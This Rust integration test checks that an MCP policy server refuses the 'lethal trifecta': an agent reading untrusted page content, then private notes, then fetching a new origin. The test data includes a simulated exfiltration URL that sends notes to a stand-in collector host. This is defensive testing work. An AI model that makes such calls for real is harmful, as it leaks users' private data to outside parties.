//! Flows over MCP: `escepine serve --mcp http` reads the flow a `tools/call` names in its
//! `_meta["dev.escepine/flow"]`, and without one puts the call in its principal's default flow.
//! The official SDKs' clients drive it in both revisions (the Python SDK 2.x on 2026-07-28, the
//! TypeScript SDK 1.x on 2025-11-25): a page read (untrusted content), the notes (private),
//! then a read at a new origin — refused by the trifecta policy, named, in the named flow and in
//! the default flow alike — while the same read in a fresh flow is allowed. A flow id a caller
//! may not name is an error of the request.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use escepine_ledger::record::{Decision, Record};
use escepine_ledger::sqlite::read_entries;
use serde_json::{json, Value};

use escepine_testkit::mcp::{serve_http, HttpServe};
use escepine_testkit::mcp_clients::{events_named, Sdk, SdkClient};
use escepine_testkit::testtool::testtool;

const ALICE: &str = "alice-token-0123456789";
const FLOW_META: &str = "dev.escepine/flow";

fn fixture(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .expect("this crate sits in runtime/")
        .join("tests/fixtures/mcp-flows")
        .join(rel)
}

fn serve(dir: &Path) -> HttpServe {
    testtool();
    let tokens = dir.join("tokens.json");
    std::fs::write(&tokens, json!({ ALICE: "Agent::\"alice\"" }).to_string()).expect("tokens");
    let mut serve = Command::new(env!("CARGO_BIN_EXE_escepine"));
    serve
        .args(["serve", "--mcp", "http", "--listen", "127.0.0.1:0"])
        .arg("--records")
        .arg(fixture("records"))
        .arg("--policies")
        .arg(fixture("policies"))
        .args(["--executor", "process"])
        .arg("--entities")
        .arg(fixture("entities.json"))
        .arg("--tokens")
        .arg(&tokens)
        .arg("--ledger")
        .arg(dir.join("ledger.db"));
    serve_http(serve)
}

fn call(tool: &str, arguments: Value, flow: Option<&str>) -> Value {
    let mut step = json!({ "op": "call", "tool": tool, "arguments": arguments });
    if let Some(flow) = flow {
        step["meta"] = json!({ FLOW_META: flow });
    }
    step
}

/// The steps: the lethal sequence in a named flow, the same read in a fresh flow, the lethal
/// sequence in the default flow (no `_meta`), and a flow id no caller may name.
fn steps(named: &str, fresh: &str) -> Value {
    let known = json!({ "url": "https://docs.example.org/guide" });
    let exfil = json!({ "url": "https://collector.example.net/c?notes=plans" });
    json!([
        call("f_page", known.clone(), Some(named)),
        call("f_notes", json!({ "text": "plans" }), Some(named)),
        call("f_page", exfil.clone(), Some(named)),
        call("f_page", exfil.clone(), Some(fresh)),
        call("f_page", known, None),
        call("f_notes", json!({ "text": "plans" }), None),
        call("f_page", exfil, None),
        call(
            "f_notes",
            json!({ "text": "x" }),
            Some("principal:Agent::\"bob\"")
        ),
        { "op": "call", "tool": "f_notes", "arguments": { "text": "x" }, "meta": { FLOW_META: 42 } },
    ])
}

/// Drive `sdk` through [`steps`] and check each answer and the ledger.
fn drive(sdk: Sdk, revision: &str, flows: (&str, &str)) {
    let dir = tempfile::tempdir().expect("tempdir");
    let server = serve(dir.path());
    let mut client = SdkClient::start(
        sdk,
        &json!({ "transport": "http", "url": server.url, "bearer": ALICE,
                 "steps": steps(flows.0, flows.1) }),
    );
    let connected = client.wait_for("connected", Duration::from_secs(60));
    assert_eq!(connected["protocol_version"], revision, "{connected}");
    let mut answers = Vec::new();
    for _ in 0..7 {
        answers.push(client.wait_for("call", Duration::from_secs(30)));
    }
    let events = client.finish(Duration::from_secs(30));
    let refused = |a: &Value| {
        a["is_error"] == true
            && a["meta"]["dev.escepine/error"]["error"]["policy_ids"]
                == json!(["trifecta-new-origin"])
    };
    for (n, a) in answers.iter().enumerate() {
        let expect_refused = matches!(n, 2 | 6);
        assert_eq!(refused(a), expect_refused, "answer {n}: {a}");
        if !expect_refused {
            assert_eq!(a["is_error"], false, "answer {n}: {a}");
        }
    }
    // The flow id no caller may name, and one that is no string: errors of the request,
    // naming the key; nothing is recorded for them.
    let errors: Vec<&Value> = events_named(&events, "error").collect();
    assert_eq!(errors.len(), 2, "{events:#?}");
    assert!(
        errors[0]["message"]
            .as_str()
            .is_some_and(|m| m.contains(FLOW_META) && m.contains("principal:")),
        "{errors:?}"
    );
    assert!(
        errors[1]["message"]
            .as_str()
            .is_some_and(|m| m.contains(FLOW_META) && m.contains("must be a string")),
        "{errors:?}"
    );
    // The ledger: each intent in the flow the request named, or alice's default flow.
    let entries = read_entries(&dir.path().join("ledger.db")).expect("the ledger");
    let intents: Vec<(String, Decision)> = entries
        .iter()
        .filter_map(|e| match &e.record {
            Record::Intent(i) => Some((
                i.flow.as_ref().map(|f| f.to_string()).unwrap_or_default(),
                i.decision,
            )),
            _ => None,
        })
        .collect();
    let default = "principal:Agent::\"alice\"";
    let expected: Vec<(String, Decision)> = [
        (flows.0, Decision::Allow),
        (flows.0, Decision::Allow),
        (flows.0, Decision::Deny),
        (flows.1, Decision::Allow),
        (default, Decision::Allow),
        (default, Decision::Allow),
        (default, Decision::Deny),
    ]
    .into_iter()
    .map(|(f, d)| (f.to_string(), d))
    .collect();
    assert_eq!(intents, expected);
}

#[test]
fn the_python_sdk_on_2026_07_28_names_flows_in_meta() {
    drive(Sdk::Python, "2026-07-28", ("py-task-1", "py-task-2"));
}

#[test]
fn the_typescript_sdk_on_2025_11_25_names_flows_in_meta() {
    drive(Sdk::TypeScript, "2025-11-25", ("ts-task-1", "ts-task-2"));
}
